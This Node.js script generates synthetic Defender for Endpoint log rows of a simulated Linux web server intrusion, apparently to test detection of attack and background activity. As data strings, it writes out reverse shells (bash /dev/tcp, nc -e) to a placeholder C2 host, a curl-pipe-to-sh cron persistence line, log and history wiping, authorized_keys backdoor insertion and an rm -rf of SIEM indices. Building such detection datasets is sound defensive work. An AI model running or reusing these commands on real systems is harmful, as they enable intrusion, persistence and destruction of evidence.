#!/usr/bin/env node
// Generates examples/attack-webserver/events.ndjson: Microsoft Defender for Endpoint rows (Streaming
// API storage-blob records, NDJSON, CRLF) of a Linux web server, web01, compromised on 2025-11-14:
// a reverse shell through PHP-FPM, SSH brute force that ends in a root logon, history and log
// wiping, persistence (authorized_keys, cron), and the Wazuh indexer's data wiped with rm -rf —
// mixed with the benign background of the same host (sysstat, cron logons, the Defender agent's
// scans, the indexer's own Lucene merges, an administrator on the VPN).
//
//   node make-events.mjs          write events.ndjson
//   node make-events.mjs --check  exit 1 when events.ndjson differs from what this script writes
//
// Deterministic: no clock, no randomness. No dependencies. Addresses of the attacker are from the
// documentation ranges (RFC 5737); Defender's RemoteIPType says "Public" for them, as it would for
// the real internet addresses such an attack comes from.
// `build()` is exported so the example's test can tell attack rows from background rows.

import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
const OUT = join(HERE, 'events.ndjson');

const TENANT_ID = '8c2f61d4-3b7a-4e95-a0d8-57e1c9b4f203';
const DEVICE_ID = 'e41f7c09b2d85a63f0c4e17b9a2d6c58f3b10e7d';
const DEVICE_NAME = 'web01.q3vhz5mkd1aehjx0c2pfwn4ryb.ax.internal.cloudapp.net';
const HOST = 'web01';
const MACHINE_GROUP = 'Linux web servers';
const DAY = '2025-11-14';
const SID_PREFIX = 'S-1-5-21-3021557781-1840371266-2594861130';
export const C2 = '198.51.100.23';
export const BRUTE = '198.51.100.77';
/** DeviceInfo ReportIds are beyond 2^53: written as bare integers through a placeholder. */
const BIG_REPORT_ID = '639201847216534417';

const hex = (algo, text) => createHash(algo).update(text, 'utf8').digest('hex');

/** `HH:MM:SS.ffffff` on the scenario day → ISO (trailing zeros of the fraction dropped, as Defender writes). */
function t(hms) {
  const [whole, frac = ''] = hms.split('.');
  const f = frac.replace(/0+$/, '');
  return `${DAY}T${whole}${f ? `.${f}` : ''}Z`;
}
/** Add seconds to an ISO time, keeping microseconds. */
function plus(iso, seconds) {
  const m = /^(.*T\d\d:\d\d:\d\d)(?:\.(\d{1,7}))?Z$/.exec(iso);
  const micros =
    BigInt(Date.parse(`${m[1]}Z`)) * 1000n +
    BigInt((m[2] ?? '').padEnd(6, '0').slice(0, 6)) +
    BigInt(Math.round(seconds * 1e6));
  const secs = micros / 1000000n;
  const frac = (micros % 1000000n).toString().padStart(6, '0').replace(/0+$/, '');
  return `${new Date(Number(secs) * 1000).toISOString().slice(0, 19)}${frac ? `.${frac}` : ''}Z`;
}
/** Envelope time: seven fractional digits, a little after the event. */
function envelopeTime(iso) {
  const later = plus(iso, 1.7311);
  const m = /^(.*T\d\d:\d\d:\d\d)(?:\.(\d{1,7}))?Z$/.exec(later);
  return `${m[1]}.${(m[2] ?? '').padEnd(7, '0')}Z`;
}

const sid = (uid) => (uid === 0 ? 'S-1-5-18' : `${SID_PREFIX}-${uid}`);
const account = (name, uid, group = name, gid = uid) => ({
  Sid: sid(uid),
  Name: name,
  DomainName: HOST,
  LogonId: 0,
  PosixUserId: uid,
  PrimaryPosixGroup: { Name: group, PosixGroupId: gid },
});
const ROOT = account('root', 0);
const MDATP_ROOT = account('root', 0, 'mdatp', 997);
const WWW = account('www-data', 33);
const INDEXER = account('wazuh-indexer', 998);
const OPS = account('ops', 1002);

/** A process as the initiating side of a row. */
function proc(file, folder, cmd, pid, user, parent, ppid, created) {
  return { file, folder, cmd, pid, user, parent, ppid, created };
}
function initiating(p) {
  return {
    InitiatingProcessAccountDomain: HOST,
    InitiatingProcessAccountName: p.user.Name,
    InitiatingProcessAccountSid: p.user.Sid,
    InitiatingProcessLogonId: 0,
    InitiatingProcessSHA1: hex('sha1', p.folder),
    InitiatingProcessSHA256: hex('sha256', p.folder),
    InitiatingProcessMD5: hex('md5', p.folder),
    InitiatingProcessFileName: p.file,
    InitiatingProcessFileSize: 100_000 + (Number.parseInt(hex('md5', p.folder).slice(0, 5), 16) % 900_000),
    InitiatingProcessId: p.pid,
    InitiatingProcessCommandLine: p.cmd,
    InitiatingProcessCreationTime: p.created,
    InitiatingProcessFolderPath: p.folder,
    InitiatingProcessParentId: p.ppid,
    InitiatingProcessParentFileName: p.parent,
    InitiatingProcessSignerType: 'Unknown',
    InitiatingProcessSignatureStatus: 'Unknown',
  };
}
const posix = (prefix, user, cwd) => ({
  [`${prefix}PosixEffectiveUser`]: user,
  [`${prefix}PosixEffectiveGroup`]: user.PrimaryPosixGroup,
  [`${prefix}PosixProcessGroupId`]: 0,
  [`${prefix}PosixSessionId`]: 0,
  [`${prefix}CurrentWorkingDirectory`]: cwd,
  [`${prefix}PosixRealUser`]: user,
});

const rows = [];
let reportId = 18_400;
/** Add one row. `attack` marks the rows that are steps of the intrusion (for the example's test). */
function add(table, timestamp, props, attack = false) {
  const id = props.ReportId ?? reportId++;
  rows.push({
    attack,
    timestamp,
    record: {
      time: envelopeTime(timestamp),
      tenantId: TENANT_ID,
      operationName: 'Publish',
      category: `AdvancedHunting-${table}`,
      _TimeReceivedBySvc: envelopeTime(plus(timestamp, -0.9)),
      properties: {
        Timestamp: timestamp,
        DeviceId: DEVICE_ID,
        DeviceName: DEVICE_NAME,
        ReportId: id,
        MachineGroup: MACHINE_GROUP,
        ...props,
      },
    },
  });
}

function processCreated(ts, { file, folder, cmd, pid, parent, user, cwd = '/', exec = false }, attack = false) {
  add(
    'DeviceProcessEvents',
    ts,
    {
      ActionType: 'ProcessCreated',
      FileName: file,
      FolderPath: folder,
      SHA1: hex('sha1', folder),
      SHA256: hex('sha256', folder),
      MD5: hex('md5', folder),
      FileSize: 40_000 + (Number.parseInt(hex('md5', folder).slice(0, 5), 16) % 900_000),
      ProcessId: exec ? parent.pid : pid,
      ProcessCommandLine: cmd,
      ProcessCreationTime: ts,
      AccountDomain: HOST,
      AccountName: user.Name,
      AccountSid: user.Sid,
      LogonId: 0,
      ...initiating(parent),
      AdditionalFields: JSON.stringify({
        ...posix('InitiatingProcess', parent.user, cwd),
        ...posix('Process', user, cwd),
      }),
    },
    attack,
  );
}
function scriptContent(ts, { body, path, runner }, attack = false) {
  add(
    'DeviceEvents',
    ts,
    {
      ActionType: 'ScriptContent',
      FileName: path.split('/').pop(),
      FolderPath: path,
      SHA256: hex('sha256', body),
      ...initiating(runner),
      AdditionalFields: JSON.stringify({ ScriptContent: body }),
    },
    attack,
  );
}
function logonEvent(
  ts,
  { action, name, uid, ip = '', ipType = null, port = null, logonType, by, failure = null },
  attack = false,
) {
  const props = {
    ActionType: action,
    LogonType: logonType,
    AccountDomain: HOST,
    AccountName: name,
    AccountSid: uid === undefined ? null : sid(uid),
    Protocol: null,
    FailureReason: failure,
    RemoteIP: ip,
    RemoteIPType: ipType,
    RemotePort: port,
    ...initiating(by),
    AdditionalFields: JSON.stringify({
      Terminal: ip ? 'ssh' : 'cron',
      ...(uid !== undefined ? { PosixUserId: uid, PosixPrimaryGroupName: name, PosixPrimaryGroupId: uid } : {}),
    }),
  };
  add('DeviceLogonEvents', ts, props, attack);
}
function fileDeleted(ts, path, by, attack = false) {
  add(
    'DeviceFileEvents',
    ts,
    {
      ActionType: 'FileDeleted',
      FileName: path.split('/').pop(),
      FolderPath: path,
      ...initiating(by),
      AdditionalFields: JSON.stringify({ ...posix('InitiatingProcess', by.user, '/') }),
    },
    attack,
  );
}

// ---------------------------------------------------------------------------------------------
// Background: what web01 does every day
// ---------------------------------------------------------------------------------------------

const SA1 = readFileSync(join(HERE, '..', 'wazuh1', 'scripts', 'sa1'), 'utf8');

const cron = proc(
  'cron',
  '/usr/sbin/cron',
  '/usr/sbin/cron -f -P',
  911,
  ROOT,
  'systemd',
  1,
  '2025-11-10T07:02:15.90412Z',
);
const java = proc(
  'java',
  '/usr/share/wazuh-indexer/jdk/bin/java',
  '/usr/share/wazuh-indexer/jdk/bin/java -Xshare:auto -Xms1g -Xmx1g -Dopensearch.path.home=/usr/share/wazuh-indexer -Dopensearch.path.conf=/etc/wazuh-indexer -cp /usr/share/wazuh-indexer/lib/* org.opensearch.bootstrap.OpenSearch -p /run/wazuh-indexer/wazuh-indexer.pid --quiet',
  1402,
  INDEXER,
  'systemd',
  1,
  '2025-11-10T07:02:31.113582Z',
);
const wdav = proc(
  'wdavdaemon',
  '/opt/microsoft/mdatp/sbin/wdavdaemon',
  'wdavdaemon edr 12 11 --log_level info',
  2210,
  MDATP_ROOT,
  'wdavdaemon',
  2190,
  '2025-11-10T07:02:40.55102Z',
);
const phpfpm = proc(
  'php-fpm8.1',
  '/usr/sbin/php-fpm8.1',
  'php-fpm: pool www',
  1872,
  WWW,
  'php-fpm8.1',
  1201,
  '2025-11-14T00:00:01.402911Z',
);

for (let i = 0; i < 4; i++) {
  const ts = t(`${['01:30', '01:40', '01:50', '02:00'][i]}:01.${String(330112 + i * 7919)}`);
  logonEvent(plus(ts, -0.41), { action: 'LogonSuccess', name: 'root', uid: 0, logonType: 'Local', by: cron });
  const runner = proc(
    'dash',
    '/usr/bin/dash',
    '/bin/sh /usr/lib/sysstat/debian-sa1 1 1',
    300_100 + i * 40,
    ROOT,
    'cron',
    911,
    plus(ts, -0.2),
  );
  scriptContent(ts, {
    body: SA1,
    path: '/usr/lib/sysstat/sa1',
    runner: { ...runner, cmd: '/bin/sh /usr/lib/sysstat/sa1 1 1', pid: runner.pid + 1 },
  });
}
// The indexer's own Lucene merges: its JVM, its service account.
for (let i = 0; i < 24; i++) {
  const gen = (300 + i).toString(36);
  fileDeleted(
    t(`01:52:${String(10 + i).padStart(2, '0')}.${String(104_331 + i * 3191)}`),
    `/var/lib/wazuh-indexer/nodes/0/indices/pQ0nW7tVSyKq1mX3c8YzGA/0/index/_${gen}_Lucene912_0.${['doc', 'tim', 'tip', 'pos'][i % 4]}`,
    java,
  );
}
// The Defender agent's inventory: python under wdavdaemon, effective group mdatp.
{
  const pyInv = proc(
    'python3.10',
    '/usr/bin/python3.10',
    '/bin/python3 /opt/microsoft/mdatp/conf/scripts/get_jar_data_list.py',
    301_500,
    MDATP_ROOT,
    'wdavdaemon',
    2210,
    t('01:58:36.9001'),
  );
  processCreated(t('01:58:36.9001'), {
    file: 'python3.10',
    folder: '/usr/bin/python3.10',
    cmd: pyInv.cmd,
    pid: 301_500,
    parent: wdav,
    user: MDATP_ROOT,
  });
  processCreated(t('01:58:37.0412'), {
    file: 'ps',
    folder: '/usr/bin/ps',
    cmd: '/bin/ps -A -o comm,pid,ppid,user,args',
    pid: 301_511,
    parent: pyInv,
    user: MDATP_ROOT,
  });
}
// An administrator on the VPN checks the site.
{
  const sshdOps = proc('sshd', '/usr/sbin/sshd', 'sshd: ops [priv]', 302_000, ROOT, 'sshd', 1190, t('02:02:11.7'));
  logonEvent(t('02:02:12.004411'), {
    action: 'LogonSuccess',
    name: 'ops',
    uid: 1002,
    ip: '10.8.0.14',
    ipType: 'Private',
    port: 53122,
    logonType: 'Network',
    by: sshdOps,
  });
  const opsBash = proc('bash', '/usr/bin/bash', '-bash', 302_010, OPS, 'sshd', 302_000, t('02:02:12.3'));
  processCreated(t('02:02:19.5521'), {
    file: 'systemctl',
    folder: '/usr/bin/systemctl',
    cmd: 'systemctl status nginx php8.1-fpm',
    pid: 302_020,
    parent: opsBash,
    user: OPS,
    cwd: '/home/ops',
  });
  processCreated(t('02:02:31.1187'), {
    file: 'tail',
    folder: '/usr/bin/tail',
    cmd: 'tail -n 50 /var/log/nginx/error.log',
    pid: 302_021,
    parent: opsBash,
    user: OPS,
    cwd: '/home/ops',
  });
}

// ---------------------------------------------------------------------------------------------
// The intrusion
// ---------------------------------------------------------------------------------------------

// 1. 02:11 — a vulnerable PHP page makes PHP-FPM (www-data) start a bash reverse shell.
const revCmd = `sh -c "bash -i >& /dev/tcp/${C2}/4444 0>&1"`;
processCreated(
  t('02:11:02.114532'),
  {
    file: 'dash',
    folder: '/usr/bin/dash',
    cmd: revCmd,
    pid: 52_201,
    parent: phpfpm,
    user: WWW,
    cwd: '/var/www/shop/public',
  },
  true,
);
const revSh = proc('dash', '/usr/bin/dash', revCmd, 52_201, WWW, 'php-fpm8.1', 1872, t('02:11:02.114532'));
processCreated(
  t('02:11:02.119871'),
  {
    file: 'bash',
    folder: '/usr/bin/bash',
    cmd: 'bash -i',
    pid: 52_202,
    parent: revSh,
    user: WWW,
    cwd: '/var/www/shop/public',
  },
  true,
);
const wwwBash = proc('bash', '/usr/bin/bash', 'bash -i', 52_202, WWW, 'dash', 52_201, t('02:11:02.119871'));
processCreated(
  t('02:11:15.40127'),
  {
    file: 'id',
    folder: '/usr/bin/id',
    cmd: 'id',
    pid: 52_210,
    parent: wwwBash,
    user: WWW,
    cwd: '/var/www/shop/public',
  },
  true,
);
processCreated(
  t('02:11:21.88813'),
  {
    file: 'uname',
    folder: '/usr/bin/uname',
    cmd: 'uname -a',
    pid: 52_211,
    parent: wwwBash,
    user: WWW,
    cwd: '/var/www/shop/public',
  },
  true,
);
// 1b. 02:12 — a second, sturdier channel: sh -c exec's straight into nc -e /bin/sh (same ProcessId).
const ncCmd = `sh -c "nc -e /bin/sh ${C2} 4445"`;
processCreated(
  t('02:12:40.503117'),
  {
    file: 'dash',
    folder: '/usr/bin/dash',
    cmd: ncCmd,
    pid: 52_301,
    parent: wwwBash,
    user: WWW,
    cwd: '/var/www/shop/public',
  },
  true,
);
const ncSh = proc('dash', '/usr/bin/dash', ncCmd, 52_301, WWW, 'bash', 52_202, t('02:12:40.503117'));
processCreated(
  t('02:12:40.507342'),
  {
    file: 'nc.traditional',
    folder: '/usr/bin/nc.traditional',
    cmd: `nc -e /bin/sh ${C2} 4445`,
    parent: ncSh,
    user: WWW,
    exec: true,
  },
  true,
);

// 2. 02:20 — SSH password guessing from another address, then a root logon from it.
const USERS = [
  'root',
  'admin',
  'ubuntu',
  'root',
  'test',
  'oracle',
  'root',
  'postgres',
  'deploy',
  'root',
  'git',
  'root',
];
for (let i = 0; i < 36; i++) {
  const ts = plus(t('02:20:00.183311'), i * 4.6 + (i % 3) * 0.37);
  const sshd = proc('sshd', '/usr/sbin/sshd', 'sshd: [accepted]', 310_000 + i * 3, ROOT, 'sshd', 1190, plus(ts, -0.8));
  const name = USERS[i % USERS.length];
  logonEvent(
    ts,
    {
      action: 'LogonFailed',
      name,
      uid: name === 'root' ? 0 : undefined,
      ip: BRUTE,
      ipType: 'Public',
      port: 40_112 + i * 17,
      logonType: 'Network',
      by: sshd,
      failure: 'InvalidUserNameOrPassword',
    },
    true,
  );
}
const sshdRoot = proc('sshd', '/usr/sbin/sshd', 'sshd: root [priv]', 310_200, ROOT, 'sshd', 1190, t('02:22:59.9011'));
logonEvent(
  t('02:23:01.552107'),
  {
    action: 'LogonSuccess',
    name: 'root',
    uid: 0,
    ip: BRUTE,
    ipType: 'Public',
    port: 41_999,
    logonType: 'Network',
    by: sshdRoot,
  },
  true,
);
const rootBash = proc('bash', '/usr/bin/bash', '-bash', 310_210, ROOT, 'sshd', 310_200, t('02:23:01.9'));
processCreated(
  t('02:23:01.9'),
  { file: 'bash', folder: '/usr/bin/bash', cmd: '-bash', pid: 310_210, parent: sshdRoot, user: ROOT, cwd: '/root' },
  true,
);

// 3. 02:25 — traces wiped and persistence planted, from a dropped script and by hand.
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0cmVzcGFzczpub3RhcmVhbGtleQ svc@web01';
const CRON_LINE = `*/10 * * * * curl -fsSL http://${C2}/u.sh | sh`;
const tidy = [
  '#!/bin/bash',
  'unset HISTFILE',
  'history -c',
  'rm -f ~/.bash_history',
  'ln -sf /dev/null ~/.bash_history',
  ': > /var/log/auth.log',
  `echo '${KEY}' >> /root/.ssh/authorized_keys`,
  `(crontab -l 2>/dev/null; echo '${CRON_LINE}') | crontab -`,
  '',
].join('\n');
const tidyRunner = proc(
  'bash',
  '/usr/bin/bash',
  'bash /dev/shm/.t.sh',
  310_300,
  ROOT,
  'bash',
  310_210,
  t('02:25:10.0071'),
);
processCreated(
  t('02:25:10.0071'),
  {
    file: 'bash',
    folder: '/usr/bin/bash',
    cmd: 'bash /dev/shm/.t.sh',
    pid: 310_300,
    parent: rootBash,
    user: ROOT,
    cwd: '/root',
  },
  true,
);
scriptContent(t('02:25:10.021133'), { body: tidy, path: '/dev/shm/.t.sh', runner: tidyRunner }, true);
const steps = [
  ['rm', '/usr/bin/rm', 'rm -f /root/.bash_history'],
  ['ln', '/usr/bin/ln', 'ln -sf /dev/null /root/.bash_history'],
  ['truncate', '/usr/bin/truncate', 'truncate -s 0 /var/log/auth.log'],
  ['bash', '/usr/bin/bash', `bash -c "(crontab -l 2>/dev/null; echo '${CRON_LINE}') | crontab -"`],
  ['crontab', '/usr/bin/crontab', 'crontab -'],
];
steps.forEach(([file, folder, cmd], i) => {
  processCreated(
    plus(t('02:25:10.1'), 0.05 + i * 0.011),
    { file, folder, cmd, pid: 310_301 + i, parent: tidyRunner, user: ROOT, cwd: '/root' },
    true,
  );
});
// By hand, afterwards, in the interactive root shell:
processCreated(
  t('02:26:44.61201'),
  {
    file: 'bash',
    folder: '/usr/bin/bash',
    cmd: `bash -c "echo '${KEY}' >> /root/.ssh/authorized_keys"`,
    pid: 310_320,
    parent: rootBash,
    user: ROOT,
    cwd: '/root',
  },
  true,
);

// 4. 02:30 — the SIEM's data wiped: rm -rf of the indexer's indices.
const rm = proc(
  'rm',
  '/usr/bin/rm',
  'rm -rf /var/lib/wazuh-indexer/nodes/0/indices',
  310_400,
  ROOT,
  'bash',
  310_210,
  t('02:30:05.2001'),
);
processCreated(
  t('02:30:05.2001'),
  { file: 'rm', folder: '/usr/bin/rm', cmd: rm.cmd, pid: 310_400, parent: rootBash, user: ROOT, cwd: '/root' },
  true,
);
const INDICES = ['pQ0nW7tVSyKq1mX3c8YzGA', 'Hc4rT1uQTbGd9vL0s2KfXw', 'x7YbN3eKQ6i2oPz5mR8uVg'];
const EXT = ['doc', 'tim', 'tip', 'pos', 'dvd', 'dvm', 'nvd', 'nvm', 'fdt', 'fdx', 'fnm', 'si', 'cfe', 'cfs'];
for (let i = 0; i < 126; i++) {
  const idx = INDICES[i % INDICES.length];
  const gen = (200 + Math.floor(i / 3)).toString(36);
  fileDeleted(
    plus(t('02:30:05.2101'), i * 0.0137),
    `/var/lib/wazuh-indexer/nodes/0/indices/${idx}/0/index/_${gen}_Lucene912_0.${EXT[i % EXT.length]}`,
    rm,
    true,
  );
}

// DeviceInfo snapshot (big ReportId, bare integer).
add('DeviceInfo', t('02:35:00.4417'), {
  ReportId: `@BIG@${BIG_REPORT_ID}@`,
  ClientVersion: '101.25092.0003',
  PublicIP: '20.113.48.201',
  OSArchitecture: '64-bit',
  OSPlatform: 'Linux',
  OSBuild: 6,
  OSDistribution: 'Ubuntu',
  OSVersionInfo: '22.04',
  IsAzureADJoined: false,
  LoggedOnUsers: '[{"UserName":"root","DomainName":"web01","Sid":"S-1-5-18"}]',
  OnboardingStatus: 'Onboarded',
  DeviceCategory: 'Endpoint',
  DeviceType: 'Server',
  SensorHealthState: 'Active',
  AzureResourceId:
    '/subscriptions/3b9d1c52-0e6f-4a71-9c8e-2f5d7a4b6c10/resourceGroups/shop-prod/providers/Microsoft.Compute/virtualMachines/web01',
  AdditionalFields: '{}',
});

/** All rows (attack and background), sorted by time, with the serialised NDJSON. */
export function build() {
  const sorted = [...rows].sort((a, b) => (a.timestamp < b.timestamp ? -1 : a.timestamp > b.timestamp ? 1 : 0));
  const lines = sorted.map((r) => JSON.stringify(r.record).replace(/"@BIG@(\d+)@"/g, '$1'));
  return {
    text: `${lines.join('\r\n')}\r\n`,
    lines,
    attack: sorted.map((r) => r.attack),
  };
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const { text } = build();
  if (process.argv.includes('--check')) {
    let current = '';
    try {
      current = readFileSync(OUT, 'utf8');
    } catch {}
    if (current !== text) {
      console.error('events.ndjson is out of date: run node examples/attack-webserver/make-events.mjs');
      process.exit(1);
    }
  } else {
    writeFileSync(OUT, text);
    console.log(`wrote ${OUT} (${text.split('\r\n').length - 1} rows)`);
  }
}
